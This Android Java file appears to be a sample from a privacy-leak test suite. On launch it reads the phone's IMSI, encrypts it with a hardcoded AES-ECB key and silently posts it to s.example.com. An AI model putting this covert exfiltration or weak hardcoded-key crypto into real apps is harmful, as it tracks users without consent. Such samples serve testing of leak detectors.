package cn.privlens.suite.aes_cipher;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.net.HttpURLConnection;
import java.net.URL;
import javax.crypto.Cipher;
import javax.crypto.spec.SecretKeySpec;

public class Main extends Activity {
    private static byte[] seal(byte[] in) throws Exception {
        Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");
        c.init(Cipher.ENCRYPT_MODE, new SecretKeySpec("0123456789abcdef".getBytes(), "AES"));
        return c.doFinal(in);
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        new Thread(() -> {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("https://s.example.com/e").openConnection();
                c.setDoOutput(true);
                c.getOutputStream().write(seal(id.getBytes()));
                c.getResponseCode();
            } catch (Exception e) {
                Log.w("suite", "net");
            }
        }).start();
    }
}
